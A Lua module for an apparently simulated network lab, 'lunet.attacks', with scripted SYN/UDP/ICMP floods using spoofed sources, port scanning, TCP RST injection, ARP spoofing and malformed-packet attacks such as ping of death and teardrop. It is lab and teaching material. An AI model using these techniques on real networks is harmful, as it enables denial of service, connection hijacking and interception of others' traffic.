-- lunet.attacks - scripted attacks, one call each, built on lunet.packet
-- and h:inject (issue 9).  Each runs inside a task of the attacking host
-- (it sleeps between packets to keep its rate), takes one table of
-- options, and returns what happened as a table.  Randomness (spoofed
-- sources, ports, sequence numbers) comes from net:rng("attack:<name>"),
-- so a run is the same for the same seed.
--
--   attacks.syn_flood{from=, to=, port=, rate=, count= | duration=, spoof=, ignore_synacks=}
--   attacks.flood{kind="ack"|"udp"|"icmp"|"syn", from=, to=, port=, rate=, count= | duration=, spoof=, size=, wait=}
--   attacks.port_scan{from=, to=, ports=, mode="syn"|"connect", timeout=, retries=}
--   attacks.rst_blind{from=, victim=, vport=, peer=, pport=, window=, step=, rate=}
--   attacks.rst_onpath{from=, net=, victim=, peer=, count=}
--   attacks.arp_spoof{from=, victim=, impersonate=, mode="reply"|"gratuitous", interval=, count=}
--   attacks.malformed{from=, to=, kind=...}
--
-- The frame builders of the first version stay for scripts that use them:
-- attacks.tcp_syn, mac_bytes, ip_num, csum.

local util = require "lunet.util"

local M = {}

---------------------------------------------------------------------------
-- small helpers

local function fail(fname, fmt, ...)
  error(string.format("attacks.%s: " .. fmt, fname, ...), 3)
end

-- Options of attacks.<fname>, checked at the user's line (level 4:
-- this function and the attack stand in between).
local function check(fname, o, known)
  if type(o) ~= "table" then error(string.format("attacks.%s: expected a table of options, got %s", fname, type(o)), 4) end
  util.check_opts("attacks." .. fname, o, known, 4)
  if o.from == nil and known.from then error("attacks." .. fname .. ": from (the attacking host) missing", 4) end
end

local function set(list)
  local s = {}
  for _, k in ipairs(list) do s[k] = true end
  return s
end

local function addr_of(x)
  if type(x) == "string" then return x end
  if type(x) == "userdata" and x.ip then return x:ip() end
  return nil
end

-- Packets per second from 1000, "1000/s", "1000pps", "1k/s".
local function parse_rate(fname, r, default)
  if r == nil then return default end
  if type(r) == "number" and r > 0 then return r end
  if type(r) == "string" then
    local n, k = r:match("^%s*([%d.]+)%s*([kKmM]?)%s*/?%s*[sp]?p?s?%s*$")
    n = tonumber(n)
    if n and n > 0 then return n * ((k == "k" or k == "K") and 1e3 or (k == "m" or k == "M") and 1e6 or 1) end
  end
  fail(fname, "rate %q: packets per second, like 1000, \"1000/s\" or \"1k/s\"", tostring(r))
end

local function secs(x) return lunet.time(x) / 1e9 end

-- How many packets: count, or duration at rate; and the gap between them.
local function pacing(fname, o, default_count)
  local rate = parse_rate(fname, o.rate, 1000)
  local count = o.count
  if count == nil and o.duration then count = math.floor(secs(o.duration) * rate + 0.5) end
  count = count or default_count
  if math.type(count) ~= "integer" or count < 0 then fail(fname, "count must be a non-negative integer") end
  return count, 1 / rate, rate
end

local ip_num, ip_str = util.ip_num, util.ip_str

-- A source-address chooser for spoof = nil/false (the host's own),
-- "random", "10.99.0.0/16" (a prefix) or {"1.2.3.4", ...} (a list).
local function spoofer(fname, spoof, rng, own)
  if not spoof then return function() return own end end
  if spoof == "random" then
    return function()        -- unicast, not 0/8 or 127/8
      local a
      repeat a = rng:int(0x01000000, 0xdfffffff) until a >> 24 ~= 127
      return ip_str(a)
    end
  end
  if type(spoof) == "table" then
    if #spoof == 0 then fail(fname, "spoof list is empty") end
    return function() return spoof[rng:int(#spoof)] end
  end
  local base, plen = tostring(spoof):match("^(%d+%.%d+%.%d+%.%d+)/(%d+)$")
  base, plen = ip_num(base), tonumber(plen)
  if not base or plen > 30 then
    fail(fname, "spoof %q: false, \"random\", a prefix like \"10.99.0.0/16\" or a list of addresses", tostring(spoof))
  end
  local size = 1 << (32 - plen)
  base = base & ~(size - 1)
  return function() return ip_str(base + rng:int(1, size - 2)) end
end

-- Count what comes back to the attacker while fn runs: a net:on("rx")
-- hook that hands each IPv4 frame, dissected, to on_rx.
local function watching(net, host, on_rx, fn)
  local id = net:on("rx", function(e)
    if e.node == host.name and e.layer == "l2" and e.ethertype == 0x0800 then on_rx(lunet.dissect(e.bytes), e) end
  end)
  local ok, err = pcall(fn)
  net:off(id)
  if not ok then error(err, 0) end
end

---------------------------------------------------------------------------
-- floods

local FLOOD_OPTS = set{"kind", "from", "to", "port", "rate", "count", "duration", "spoof", "size",
                       "ignore_synacks", "sport", "wait"}

-- attacks.flood{kind=, from=, to=, ..., wait=} -> {sent=, replies=, synacks=, rsts=, first=, last=, rate=}
-- Replies are counted until the last packet is sent, and `wait` longer.
function M.flood(o)
  check("flood", o, FLOOD_OPTS)
  local kind = o.kind or "syn"
  if kind ~= "syn" and kind ~= "ack" and kind ~= "udp" and kind ~= "icmp" then
    fail("flood", "kind %q unknown (syn, ack, udp, icmp)", tostring(kind))
  end
  local h = o.from
  local net = lunet.current_net()
  local to = addr_of(o.to) or fail("flood", "to (the target's address or host) missing")
  local count, gap, rate = pacing("flood", o, 1000)
  local rng = net:rng("attack:flood:" .. kind .. ":" .. h.name)
  local src_of = spoofer("flood", o.spoof, rng, h:ip())
  local port = o.port or (kind == "udp" and 9 or 80)
  local payload = o.size and ("\0"):rep(o.size) or nil
  local r = {kind = kind, sent = 0, replies = 0, synacks = 0, rsts = 0, rate = rate}
  local rule
  if o.ignore_synacks then
    -- What a real lab does with hping3: keep the attacker's own stack from
    -- answering the SYN-ACKs with RSTs, which would free the target's
    -- half-open requests (iptables -A INPUT -p tcp --tcp-flags SYN,ACK SYN,ACK -j DROP).
    rule = h:firewall{hook = "in", filter = "tcp[tcpflags] & (tcp-syn|tcp-ack) == (tcp-syn|tcp-ack)", action = "drop"}
  end
  watching(net, h, function(d)
    if d.ip.src ~= to then return end
    r.replies = r.replies + 1
    if d.tcp and d.tcp.flags == "S." then r.synacks = r.synacks + 1 end
    if d.tcp and d.tcp.flags:find("R") then r.rsts = r.rsts + 1 end
  end, function()
    r.first = lunet.now()
    for i = 1, count do
      local t = {ip = {src = src_of(), dst = to, id = rng:int(0, 65535)}, payload = payload}
      local sport = o.sport or rng:int(1024, 65535)
      if kind == "syn" then
        t.tcp = {srcport = sport, dstport = port, seq = rng:int(0, 0xffffffff), flags = "S",
                 options = {{mss = 1460}}}
      elseif kind == "ack" then
        t.tcp = {srcport = sport, dstport = port, seq = rng:int(0, 0xffffffff), ack = rng:int(0, 0xffffffff),
                 flags = ".", window = 502}
      elseif kind == "udp" then
        t.udp = {srcport = sport, dstport = port}
      else
        t.icmp = {type = 8, ident = rng:int(0, 65535), seq = i & 0xffff}
      end
      if h:inject(t) then r.sent = r.sent + 1 end
      r.last = lunet.now()
      if i < count then lunet.sleep(gap) end
    end
    if o.wait then lunet.sleep(o.wait) end   -- replies still on their way count too
  end)
  r.firewall_rule = rule
  return r
end

-- attacks.syn_flood{from=, to=, port=, rate=, count= | duration=, spoof=, ignore_synacks=}
-- Without spoof, the attacker's own stack resets every SYN-ACK and the
-- target's queue empties as fast as it fills: ignore_synacks=true is the
-- non-spoofed flood that works (the SYN-ACKs are dropped at the attacker).
function M.syn_flood(o)
  check("syn_flood", o, FLOOD_OPTS)
  local t = {}
  for k, v in pairs(o) do t[k] = v end
  t.kind = "syn"
  return M.flood(t)
end

---------------------------------------------------------------------------
-- port scan

local SCAN_OPTS = set{"from", "to", "ports", "mode", "timeout", "retries", "rate"}

local function port_list(ports)
  if ports == nil then ports = {1, 1024} end
  if type(ports) == "number" then return {ports} end
  local list = {}
  if type(ports) == "table" and #ports == 2 and type(ports[1]) == "number" and ports[2] > ports[1] + 1
     and ports.list ~= true then
    for p = ports[1], ports[2] do list[#list + 1] = p end
  elseif type(ports) == "table" then
    for _, p in ipairs(ports) do list[#list + 1] = p end
  end
  for _, p in ipairs(list) do
    if math.type(p) ~= "integer" or p < 1 or p > 65535 then
      fail("port_scan", "ports: {first, last}, a list of ports (1..65535), or one port")
    end
  end
  return list
end

-- attacks.port_scan{from=, to=, ports={1, 1024}, mode="syn", timeout="1s", retries=1}
-- -> {open={...}, closed={...}, filtered={...}, state={[port]=...}, probes=}
-- As nmap decides: a SYN-ACK is open (the attacker's stack resets it, as
-- the kernel does under nmap -sS), a RST is closed, an ICMP unreachable
-- (type 3 code 1, 2, 3, 9, 10, 13) or no answer after the retries is
-- filtered.  mode="connect" uses the host's own connect() (nmap -sT).
function M.port_scan(o)
  check("port_scan", o, SCAN_OPTS)
  local h, net = o.from, lunet.current_net()
  local to = addr_of(o.to) or fail("port_scan", "to (the target's address or host) missing")
  local ports = port_list(o.ports)
  local timeout = o.timeout or "1s"
  local r = {open = {}, closed = {}, filtered = {}, state = {}, probes = 0}
  local mode = o.mode or "syn"
  if mode == "connect" then
    for _, p in ipairs(ports) do
      local s, err = h:connect(to, p, {timeout = timeout})
      r.probes = r.probes + 1
      if s then r.state[p] = "open"; s:close()
      elseif err == "refused" or err == "reset" then r.state[p] = "closed"
      else r.state[p] = "filtered" end
    end
  elseif mode == "syn" then
    local rng = net:rng("attack:scan:" .. h.name)
    local base = rng:int(33000, 60000)
    local by_sport, seq = {}, rng:int(0, 0xffffffff)
    for i, p in ipairs(ports) do by_sport[(base + i) & 0xffff] = p end
    local function answer(d)
      if d.ip.src ~= to then return end
      local tcp = d.tcp
      if tcp and by_sport[tcp.dstport] and not r.state[by_sport[tcp.dstport]] then
        local p = by_sport[tcp.dstport]
        if tcp.flags == "S." then r.state[p] = "open"
        elseif tcp.flags:find("R") then r.state[p] = "closed" end
      elseif d.icmp and d.icmp.type == 3 and d.icmp.quote and d.icmp.quote.tcp then
        local c = d.icmp.code
        local p = by_sport[d.icmp.quote.tcp.srcport]
        if p and (c == 1 or c == 2 or c == 3 or c == 9 or c == 10 or c == 13) then r.state[p] = "filtered" end
      end
    end
    local gap = 1 / parse_rate("port_scan", o.rate, 10000)
    watching(net, h, answer, function()
      for _ = 0, o.retries or 1 do
        local sent = false
        for i, p in ipairs(ports) do
          if not r.state[p] then
            h:inject{ip = {dst = to, id = rng:int(0, 65535)},
                     tcp = {srcport = (base + i) & 0xffff, dstport = p, seq = seq, flags = "S", window = 1024,
                            options = {{mss = 1460}}}}
            r.probes, sent = r.probes + 1, true
            lunet.sleep(gap)
          end
        end
        if not sent then break end
        lunet.sleep(timeout)
      end
    end)
  else
    fail("port_scan", "mode %q unknown (syn, connect)", tostring(mode))
  end
  for _, p in ipairs(ports) do
    r.state[p] = r.state[p] or "filtered"
    table.insert(r[r.state[p]], p)
  end
  return r
end

---------------------------------------------------------------------------
-- RST injection

local BLIND_OPTS = set{"from", "victim", "vport", "peer", "pport", "window", "step", "rate", "count", "start"}

-- attacks.rst_blind{from=, victim=, vport=, peer=, pport=, start=, window=, step=, rate=}
-- An off-path attacker forges RSTs from peer:pport to victim:vport,
-- walking the sequence space from `start` by `step`.  RFC 5961 3.2: only
-- an exact match resets; one merely in the window draws a challenge ACK
-- from the victim, so a blind guess almost never works.
-- -> {sent=, first_seq=, last_seq=}
function M.rst_blind(o)
  check("rst_blind", o, BLIND_OPTS)
  local h = o.from
  local victim = addr_of(o.victim) or fail("rst_blind", "victim missing")
  local peer = addr_of(o.peer) or fail("rst_blind", "peer (the address to forge) missing")
  if not (o.vport and o.pport) then fail("rst_blind", "vport and pport (the connection's ports) missing") end
  local count, gap = pacing("rst_blind", o, 16)
  local step = o.step or 65535
  local rng = lunet.current_net():rng("attack:rst:" .. h.name)
  local seq = o.start or rng:int(0, 0xffffffff)
  local r = {sent = 0, first_seq = seq}
  for i = 1, count do
    h:inject{ip = {src = peer, dst = victim, id = rng:int(0, 65535)},
             tcp = {srcport = o.pport, dstport = o.vport, seq = seq, flags = "R", window = 0}}
    r.sent, r.last_seq = r.sent + 1, seq
    seq = (seq + step) & 0xffffffff
    if i < count then lunet.sleep(gap) end
  end
  return r
end

local ONPATH_OPTS = set{"from", "victim", "peer", "count", "port"}

-- attacks.rst_onpath{from=, victim=, peer=, port=, count=1}
-- An attacker that sees the traffic (on a hub, or a switch port it
-- mirrors) learns the exact sequence number from the next segment the
-- peer sends the victim, and forges a RST that the victim accepts.
-- Returns once it has sent `count` RSTs: {sent=, seqs={...}}
function M.rst_onpath(o)
  check("rst_onpath", o, ONPATH_OPTS)
  local h, net = o.from, lunet.current_net()
  local victim = addr_of(o.victim) or fail("rst_onpath", "victim missing")
  local peer = addr_of(o.peer) or fail("rst_onpath", "peer missing")
  local want = o.count or 1
  local r = {sent = 0, seqs = {}}
  local pending = {}
  local id = net:on("rx", function(e)
    if e.node ~= h.name or e.layer ~= "l2" or e.ethertype ~= 0x0800 then return end
    local d = lunet.dissect(e.bytes)
    local t = d.tcp
    if not t or d.ip.src ~= peer or d.ip.dst ~= victim or t.flags:find("R") or t.flags:find("S") then return end
    if o.port and t.dstport ~= o.port and t.srcport ~= o.port then return end
    if #pending + r.sent >= want then return end
    -- the victim expects the peer's next byte: seq + this segment's length
    local len = #(d.payload or "") + (t.flags:find("F") and 1 or 0)
    pending[#pending + 1] = {sport = t.srcport, dport = t.dstport, seq = (t.seq + len) & 0xffffffff}
  end)
  while r.sent < want do
    while #pending == 0 do lunet.sleep("1ms") end
    local p = table.remove(pending, 1)
    h:inject{ip = {src = peer, dst = victim}, tcp = {srcport = p.sport, dstport = p.dport, seq = p.seq, flags = "R", window = 0}}
    r.sent = r.sent + 1
    r.seqs[#r.seqs + 1] = p.seq
  end
  net:off(id)
  return r
end

---------------------------------------------------------------------------
-- ARP spoofing

local ARP_OPTS = set{"from", "victim", "impersonate", "mode", "interval", "count", "iface"}

-- attacks.arp_spoof{from=, victim=, impersonate=, mode="reply", interval="1s", count=5}
-- Tells the victim that `impersonate`'s address is at the attacker's MAC:
-- mode "reply" sends unsolicited ARP replies to the victim (arpspoof),
-- "gratuitous" broadcasts a gratuitous ARP for the address.  Linux
-- accepts an unsolicited reply only for an address it already has an
-- entry for (arp_accept=0), so poisoning refreshes an existing entry, and
-- ignores a new MAC within locktime (1 s) of the entry's last update: it
-- is repeated every interval, which also beats the real owner's own ARP
-- traffic putting it back.  Forwarding through the attacker (a man in the middle)
-- is h:forwarding(true) on the attacker.  -> {sent=}
function M.arp_spoof(o)
  check("arp_spoof", o, ARP_OPTS)
  local h = o.from
  local victim = addr_of(o.victim) or fail("arp_spoof", "victim missing")
  local imp = addr_of(o.impersonate) or fail("arp_spoof", "impersonate (the address to steal) missing")
  local iface = o.iface and (type(o.iface) == "string" and h:iface(o.iface) or o.iface) or h.eth0
  local mode = o.mode or "reply"
  local count, interval = o.count or 5, o.interval or "1s"
  local r = {sent = 0}
  for i = 1, count do
    local t
    if mode == "reply" then
      local vmac
      for _, e in ipairs(h:arp()) do if e.ip == victim and e.mac then vmac = e.mac end end
      t = {eth = {dst = vmac or "ff:ff:ff:ff:ff:ff"},
           arp = {opcode = "reply", src_hw_mac = iface.mac, src_proto_ipv4 = imp,
                  dst_hw_mac = vmac or "00:00:00:00:00:00", dst_proto_ipv4 = victim}}
    elseif mode == "gratuitous" then
      t = {eth = {dst = "ff:ff:ff:ff:ff:ff"},
           arp = {opcode = "request", src_hw_mac = iface.mac, src_proto_ipv4 = imp,
                  dst_hw_mac = "00:00:00:00:00:00", dst_proto_ipv4 = imp}}
    else
      fail("arp_spoof", "mode %q unknown (reply, gratuitous)", tostring(mode))
    end
    h:inject(t, iface)
    r.sent = r.sent + 1
    if i < count then lunet.sleep(interval) end
  end
  return r
end

---------------------------------------------------------------------------
-- malformed packets

local MAL_OPTS = set{"from", "to", "kind", "port"}
local MALFORMED = {}

-- Xmas (FIN, PSH, URG) and null (no flag) scans: RFC 9293 says a closed
-- port answers RST, an open one stays silent.
MALFORMED.xmas = function(h, to, port)
  return {{ip = {dst = to}, tcp = {srcport = 40001, dstport = port, flags = "FPU", seq = 1}}}
end
MALFORMED.null = function(h, to, port)
  return {{ip = {dst = to}, tcp = {srcport = 40002, dstport = port, flags = "", seq = 1}}}
end
-- A header length under 20 (5 words is the minimum, RFC 791 3.1)
MALFORMED.bad_ip_hdr_len = function(h, to)
  return {{ip = {dst = to, hdr_len = 16}, icmp = {ident = 1, seq = 1}}}
end
-- A TCP data offset past the segment's end
MALFORMED.bad_tcp_hdr_len = function(h, to, port)
  return {{ip = {dst = to}, tcp = {srcport = 40003, dstport = port, flags = "S", hdr_len = 60}}}
end
-- An option whose length is 0: a parser that trusts it loops forever
MALFORMED.zero_length_option = function(h, to, port)
  return {{ip = {dst = to}, tcp = {srcport = 40004, dstport = port, flags = "S", options = {{kind = 2, len = 0}, "nop", "nop"}}}}
end
-- The ping of death: fragments whose reassembly would pass 65535 bytes
MALFORMED.ping_of_death = function(h, to)
  local t, id = {}, 0xdead
  local chunk = ("P"):rep(1480)
  local echo = lunet.packet{ip = {src = "0.0.0.0", dst = to}, icmp = {ident = 1, seq = 1}}:bytes():sub(21)
  for off = 0, 63640, 1480 do
    t[#t + 1] = {ip = {dst = to, id = id, proto = 1, frag_offset = off, flags_mf = true},
                 payload = off == 0 and echo .. chunk:sub(9) or chunk}
  end
  -- the last one ends at 66600: a datagram of more than 65535 bytes
  t[#t + 1] = {ip = {dst = to, id = id, proto = 1, frag_offset = 65120}, payload = chunk}
  return t
end
-- Teardrop: a second fragment that overlaps the first and ends inside it
MALFORMED.teardrop = function(h, to)
  return {
    {ip = {dst = to, id = 0x7ea7, proto = 17, flags_mf = true}, payload = ("A"):rep(48)},
    {ip = {dst = to, id = 0x7ea7, proto = 17, frag_offset = 24}, payload = ("B"):rep(4)},
  }
end

-- attacks.malformed{from=, to=, kind="teardrop"|..., port=80} -> {sent=, kind=}
function M.malformed(o)
  check("malformed", o, MAL_OPTS)
  local builder = MALFORMED[o.kind]
  if not builder then
    local k = {}
    for n in pairs(MALFORMED) do k[#k + 1] = n end
    table.sort(k)
    fail("malformed", "kind %q unknown (%s)", tostring(o.kind), table.concat(k, ", "))
  end
  local to = addr_of(o.to) or fail("malformed", "to missing")
  local r = {kind = o.kind, sent = 0}
  for _, t in ipairs(builder(o.from, to, o.port or 80)) do
    if o.from:inject(t) then r.sent = r.sent + 1 end
  end
  return r
end
M.MALFORMED_KINDS = {}
for k in pairs(MALFORMED) do M.MALFORMED_KINDS[#M.MALFORMED_KINDS + 1] = k end
table.sort(M.MALFORMED_KINDS)

---------------------------------------------------------------------------
-- the first version's frame builders (scripts/syn_flood.lua uses them)

function M.mac_bytes(mac)
  local b = {}
  for x in mac:gmatch("%x%x") do b[#b + 1] = string.char(tonumber(x, 16)) end
  if #b ~= 6 then error("attacks.mac_bytes: \"" .. tostring(mac) .. "\" is not a MAC address", 2) end
  return table.concat(b)
end

-- RFC 1071, over big-endian 16-bit words.
function M.csum(s)
  local sum = 0
  if #s % 2 == 1 then s = s .. "\0" end
  for i = 1, #s - 1, 2 do sum = sum + (s:byte(i) << 8) + s:byte(i + 1) end
  while sum > 0xffff do sum = (sum & 0xffff) + (sum >> 16) end
  return (~sum) & 0xffff
end

function M.ip_num(ip)
  local n = ip_num(ip)
  if not n then error("attacks.ip_num: \"" .. tostring(ip) .. "\" is not an IPv4 address", 2) end
  return n
end

-- An Ethernet frame holding an IPv4 SYN (TTL 64, DF clear) with only an
-- MSS 1460 option, like hping3's; addresses as integers, MACs as bytes.
function M.tcp_syn(src_mac, dst_mac, src, dst, sport, dport, isn, ipid)
  local function mac(b) return (b:gsub(".", function(c) return string.format("%02x:", c:byte()) end):sub(1, -2)) end
  return lunet.packet{
    eth = {src = mac(src_mac), dst = mac(dst_mac)},
    ip = {src = ip_str(src), dst = ip_str(dst), id = ipid or 0},
    tcp = {srcport = sport, dstport = dport, seq = isn, flags = "S", options = {{mss = 1460}}},
  }:bytes()
end

return M
